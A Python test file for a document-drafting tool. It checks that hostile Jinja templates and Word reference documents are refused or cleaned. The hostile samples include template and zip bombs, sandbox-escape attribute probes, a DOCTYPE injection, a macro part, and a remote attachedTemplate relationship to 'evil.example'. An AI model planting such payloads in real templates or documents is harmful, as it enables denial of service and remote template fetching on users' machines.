"""Hostile workspace templates and reference documents: bounded, checked, refused at their path."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import Result

from drafter.drafting import sandbox
from drafter.drafting.templates import shipped_templates

ENTRIES = {"inputs/cyber/a.yaml": "date: 2023-07\ntexte: Un\ncontributeur: SEAE\n"}
SHIPPED = shipped_templates() / "reference.docx"
EVIL = (
    '<Relationship Id="rIdEvil" TargetMode="External" Target="http://evil.example/t.dotm" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
)


def _template(root: Path, body: str) -> None:
    (root / "templates").mkdir(exist_ok=True)
    (root / "templates" / "rapport.md.j2").write_text(body, encoding="utf-8")


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (
            "{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}",
            "plus de 0.5 secondes",
        ),
        ("{{ 'x' * 2000000000 }}", "répétition"),
        ("{{ 'x' | center(2000000000) }}", "nombre trop grand"),
        ("{{ '%02000000000d' % 1 }}", "largeur de mise en forme"),
        # 5,000,000 characters, and 4,000 for each entry drafted (one here)
        ("{% for i in range(99999) %}{{ 'y' * 99 }}{% endfor %}", "plus de 5004000 caractères"),
        ("# Titre\n\nA\x0bB\n", "caractère de contrôle U+000B"),
    ],
)
def test_template_bombs_are_refused_at_their_path(
    workspace: Callable[..., Path],
    cli_invoke: Callable[..., Result],
    monkeypatch: pytest.MonkeyPatch,
    body: str,
    message: str,
) -> None:
    """Endless loops, huge strings, huge widths, huge output, control characters: located refusal."""
    monkeypatch.setattr(sandbox, "MAX_SECONDS", 0.5)
    root = workspace(ENTRIES)
    _template(root, "{% for k in range(99) %}{% endfor %}" + body)
    result = cli_invoke("build", "--workspace", root)
    assert result.exit_code == 1
    assert "templates/rapport.md.j2:1:1: modèle refusé ou incorrect" in result.stderr.replace(
        str(root) + "/", ""
    )
    assert message in result.stderr
    assert not (root / "outputs").exists()


def _docx(changes: dict[str, bytes | None], source: Path = SHIPPED) -> bytes:
    """Return the shipped reference with some parts replaced, added or (None) removed."""
    out = io.BytesIO()
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in changes:
                new.writestr(name, old.read(name))
        for name, data in changes.items():
            if data is not None:
                new.writestr(name, data)
    return out.getvalue()


def _part(name: str) -> str:
    with zipfile.ZipFile(SHIPPED) as package:
        return package.read(name).decode("utf-8")


def _header_of_a_table() -> bytes:
    """Return the shipped reference whose header holds a table and no paragraph."""
    import docx
    from docx.shared import Cm

    document = docx.Document(str(SHIPPED))
    header = document.sections[0].header
    header.is_linked_to_previous = False
    header.add_table(1, 1, Cm(5))
    for paragraph in header.paragraphs:
        paragraph._p.getparent().remove(paragraph._p)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _zip_bomb() -> bytes:
    out = io.BytesIO(_docx({}))
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as package,
        package.open("word/media/bombe.bin", "w", force_zip64=True) as stream,
    ):
        for _ in range(120):
            stream.write(bytes(1_000_000))
    return out.getvalue()


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (lambda: b"pas un zip", "n'est pas un document Word"),
        (_zip_bomb, "démesuré une fois décompressé"),
        (lambda: _docx({"word/styles.xml": b"<w:styles><oops"}), "word/styles.xml mal formée"),
        (lambda: _docx({"word/styles.xml": None}), "partie word/styles.xml absente"),
        (
            lambda: _docx(
                {
                    "word/styles.xml": _part("word/styles.xml")
                    .replace("?>", "?><!DOCTYPE x>", 1)
                    .encode()
                }
            ),
            "partie word/styles.xml : déclarations XML (DOCTYPE, ENTITY) refusées",
        ),
        (lambda: _docx({"word/vbaProject.bin": b"\0"}), "contient des macros"),
        (
            lambda: _docx(
                {"word/document.xml": _part("word/document.xml").replace("sectPr", "x").encode()}
            ),
            "aucune section",
        ),
        (_header_of_a_table, "sans paragraphe"),
    ],
)
def test_bad_reference_documents_are_refused(
    workspace: Callable[..., Path],
    cli_invoke: Callable[..., Result],
    make: Callable[[], bytes],
    message: str,
) -> None:
    """Not a zip, zip bomb, malformed or missing parts, macros, no section: templates/reference.docx:1:1."""
    root = workspace(ENTRIES)
    (root / "templates").mkdir()
    (root / "templates" / "reference.docx").write_bytes(make())
    result = cli_invoke("build", "--workspace", root)
    assert result.exit_code == 1
    assert result.stderr.startswith("templates/reference.docx:1:1: ")
    assert message in result.stderr


def test_external_relationships_are_not_carried_into_drafts(
    workspace: Callable[..., Path], cli_invoke: Callable[..., Result]
) -> None:
    """An attached template on a remote server, in the reference, is absent from the draft."""
    rels = _part("word/_rels/document.xml.rels").replace(
        "</Relationships>", EVIL + "</Relationships>"
    )
    root = workspace(ENTRIES)
    (root / "templates").mkdir()
    (root / "templates" / "reference.docx").write_bytes(
        _docx({"word/_rels/document.xml.rels": rels.encode()})
    )
    assert cli_invoke("build", "--workspace", root).exit_code == 0
    with zipfile.ZipFile(root / "outputs" / "rapport-etape-09.docx") as draft:
        assert not any(b"evil.example" in draft.read(name) for name in draft.namelist())


@pytest.mark.parametrize("attribute", ["_entry", "__class__", "_text.__class__"])
def test_a_sentence_shows_only_its_public_properties(
    workspace: Callable[..., Path], cli_invoke: Callable[..., Result], attribute: str
) -> None:
    """The templates read a sentence's `id`, `texte`, `points`, `source`; its entry and its
    class stay out of reach (the sandbox's fast path for sentences keeps this)."""
    root = workspace(ENTRIES)
    _template(
        root,
        "{% for d in domaines %}{% for p in d.paragraphes %}{% for s in p.phrases %}"
        f"{{{{ s.texte }}}} {{{{ s.{attribute} }}}}"
        "{% endfor %}{% endfor %}{% endfor %}",
    )
    result = cli_invoke("build", "--workspace", root)
    assert result.exit_code == 1
    assert "templates/rapport.md.j2:1:1: modèle refusé ou incorrect" in result.stderr.replace(
        str(root) + "/", ""
    )
    assert not (root / "outputs").exists()


def test_a_large_workspace_may_draft_more_than_the_base_limit(
    workspace: Callable[..., Path],
    cli_invoke: Callable[..., Result],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The output limit grows with the entries drafted: 10,000 long entries make 8 million
    characters with the shipped templates, which a fixed 5 million refused as a bug."""
    entries = {
        f"inputs/cyber/{n}.yaml": f"date: 2023-07\ntexte: Activité {n} {'x' * 300}\ncontributeur: SEAE\n"
        for n in range(4)
    }
    root = workspace(entries)
    monkeypatch.setattr(sandbox, "MAX_OUTPUT", 1000)  # below this draft, above its base
    assert cli_invoke("build", "--workspace", root).exit_code == 0
    monkeypatch.setattr(sandbox, "OUTPUT_PER_ENTRY", 0)
    result = cli_invoke("build", "--force", "--workspace", root)
    assert isinstance(result.exception, sandbox.TemplateLimit)  # shipped templates: a bug
    assert "plus de 1000 caractères" in str(result.exception)


def test_the_time_limit_grows_with_the_entries_drafted(
    workspace: Callable[..., Path],
    cli_invoke: Callable[..., Result],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """An endless template is stopped after the base time plus a share per entry (a large
    workspace on a slow machine is not a bomb), and the message says how long it had."""
    monkeypatch.setattr(sandbox, "MAX_SECONDS", 0.2)
    monkeypatch.setattr(sandbox, "SECONDS_PER_ENTRY", 0.1)
    entries = {f"inputs/cyber/{n}.yaml": ENTRIES["inputs/cyber/a.yaml"] for n in range(3)}
    root = workspace(entries)
    _template(
        root, "{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}"
    )
    result = cli_invoke("build", "--workspace", root)
    assert result.exit_code == 1
    assert "depuis plus de 0.5 secondes" in result.stderr
